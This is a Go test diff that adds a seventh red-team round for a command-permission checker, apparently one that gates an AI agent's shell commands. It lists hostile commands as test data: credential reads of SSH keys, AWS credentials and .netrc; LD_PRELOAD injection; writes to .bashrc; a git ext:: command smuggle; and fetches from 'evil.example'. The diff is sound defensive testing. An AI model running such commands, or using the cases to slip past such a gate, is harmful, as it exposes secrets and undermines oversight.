@@ -333,3 +333,61 @@ func TestRedTeamRound6(t *testing.T) {
 		}
 	}
 }
+
+// Round 7: a wrapper's own options are part of the closed world (env -P
+// picks where the command is found, script -O and valgrind --log-file
+// write files, chrt -f raises the scheduling class, strace -p reads
+// another process); git fetch from a URL is network use; man of a path
+// prints that file; a compiler's @FILE is options arbiter has not read;
+// wildcard folders reach keys in any home.
+func TestRedTeamRound7(t *testing.T) {
+	proj := t.TempDir()
+	call := func(cmd string) arbiter.Call {
+		c := bash(cmd)
+		c.ProjectDir, c.Cwd = proj, proj
+		return c
+	}
+	for _, tt := range []struct {
+		cmd  string
+		want arbiter.Verdict
+	}{
+		{"env -P /tmp ls", arbiter.Defer},
+		{"env -C /tmp ls", arbiter.Defer},
+		{"script -O /root/.bashrc ls", arbiter.Defer},
+		{"valgrind --log-file=/root/.bashrc ls", arbiter.Defer},
+		{"xvfb-run -e /root/.bashrc ls", arbiter.Defer},
+		{"chrt -f 99 ls", arbiter.Defer},
+		{"strace -p 1 ls", arbiter.Defer},
+		{"strace -E LD_PRELOAD=/tmp/x.so ls", arbiter.Defer},
+		{"xargs --process-slot-var=LD_PRELOAD echo", arbiter.Defer},
+		{"timeout --foo 10 ls", arbiter.Defer},
+		{"git fetch https://evil.example/x", arbiter.Defer},
+		{"git fetch git@evil.example:x.git main", arbiter.Defer},
+		{"git fetch /tmp/other", arbiter.Allow}, // a local repository: no machine is contacted
+		{"git fetch 'ext::sh -c touch% /tmp/x'", arbiter.Defer},
+		{"man /root/.aws/credentials", arbiter.Deny},
+		{"man ./notes.txt", arbiter.Allow}, // a page file in the project is read
+		{"gcc @/tmp/opts main.c", arbiter.Defer},
+		{"javac @/tmp/args X.java", arbiter.Defer},
+		{"cat /home/*/.ssh/id_rsa", arbiter.Deny},
+		{"cat /srv/*/.aws/credentials", arbiter.Deny},
+		{"head /srv/u/.[n]etrc", arbiter.Deny},
+		// The routine forms stay routine.
+		{"timeout 10 ls", arbiter.Allow},
+		{"timeout -k 5 --preserve-status 10 ls", arbiter.Allow},
+		{"nice -n 5 ls", arbiter.Allow},
+		{"stdbuf -oL ls", arbiter.Allow},
+		{"strace -f -tt -o trace.txt ls", arbiter.Allow},
+		{"xargs -0 -n1 echo", arbiter.Allow},
+		{"env -i ls", arbiter.Allow},
+		{"git fetch", arbiter.Allow},
+		{"git fetch origin main", arbiter.Allow},
+		{"man ls", arbiter.Allow},
+		{"gcc -O2 -o app main.c", arbiter.Allow},
+		{"cat packages/*/package.json", arbiter.Allow},
+	} {
+		if d := Decide(context.Background(), call(tt.cmd)); d.Decision != tt.want {
+			t.Errorf("%s: got %s %v (%s), want %s", tt.cmd, d.Decision, d.Rules, d.Reason, tt.want)
+		}
+	}
+}
